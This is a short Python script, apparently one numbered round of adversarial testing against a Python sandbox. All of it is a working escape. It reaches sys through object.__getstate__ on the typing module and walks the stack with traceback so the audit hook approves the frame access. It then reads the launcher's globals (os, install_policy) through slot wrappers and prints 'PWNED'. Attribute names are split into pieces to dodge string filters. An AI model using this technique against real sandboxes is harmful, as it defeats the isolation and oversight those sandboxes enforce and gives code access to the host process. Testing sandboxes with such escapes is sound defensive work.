# adversary round 8: 043: frames and the launcher's globals: sys (object.__getstate__(typing)) -> traceback.walk_stack(None), whose own sys._getframe() call the audit hook approves as the library's -> every frame; the frame type's f_globals getset read through its __get__ slot wrapper (getstate again) -> launcher main()'s globals (its os, sys, install_policy)
import typing

s = object.__getstate__(typing)['sys']
tb = s.modules['traceback']
frames = [f for f, lineno in tb.walk_stack(None)]
print(len(frames), frames[-1])
FT = type(frames[0])
fg = object.__getstate__(FT)['f_glo' + 'bals']
gs_get = object.__getstate__(type(fg))['__g' + 'et__']
launcher_globals = gs_get(fg, frames[-1], FT)
print(sorted(k for k in launcher_globals if not k.startswith('__'))[:15])
print(launcher_globals['os'].getpid(), launcher_globals['install_policy'])
print('PWN' + 'ED')
